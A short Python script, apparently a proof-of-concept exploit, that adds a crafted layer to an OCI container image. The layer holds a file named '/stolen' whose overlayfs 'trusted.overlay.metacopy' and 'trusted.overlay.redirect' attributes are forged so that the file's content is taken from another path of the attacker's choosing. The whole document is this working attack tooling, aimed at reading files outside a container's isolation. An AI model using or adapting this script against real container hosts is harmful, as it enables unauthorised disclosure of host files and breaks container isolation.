#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Adds a layer to the one image of an OCI layout: the file /stolen, whose attributes ask overlayfs to take its content from
somewhere else.

    steering_layer.py LAYOUT REDIRECT SIZE
"""

import hashlib
import io
import json
import sys
import tarfile


def main(layout, redirect, size):
    def path(digest):
        return f"{layout}/blobs/{digest.replace(':', '/')}"

    def read(digest):
        with open(path(digest), "rb") as file:
            return json.load(file)

    def put(data):
        digest = "sha256:" + hashlib.sha256(data).hexdigest()
        with open(path(digest), "wb") as file:
            file.write(data)
        return {"digest": digest, "size": len(data)}

    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        entry = tarfile.TarInfo("stolen")
        entry.mode, entry.size = 0o755, int(size)
        # An empty value would be taken for none; this is version 0, 4 bytes, no digest.
        entry.pax_headers = {"SCHILY.xattr.trusted.overlay.metacopy": "\0\4\0\0", "SCHILY.xattr.trusted.overlay.redirect": redirect}
        tar.addfile(entry, io.BytesIO(bytes(int(size))))
    with open(layout + "/index.json", encoding="utf-8") as file:
        index = json.load(file)
    manifest = read(index["manifests"][0]["digest"])
    config = read(manifest["config"]["digest"])
    layer = put(raw.getvalue())
    manifest["layers"].append({"mediaType": "application/vnd.oci.image.layer.v1.tar", **layer})
    config["rootfs"]["diff_ids"].append(layer["digest"])
    config.pop("history", None)
    manifest["config"].update(put(json.dumps(config).encode()))
    index["manifests"][0].update(put(json.dumps(manifest).encode()))
    with open(layout + "/index.json", "w", encoding="utf-8") as file:
        json.dump(index, file)


main(*sys.argv[1:])
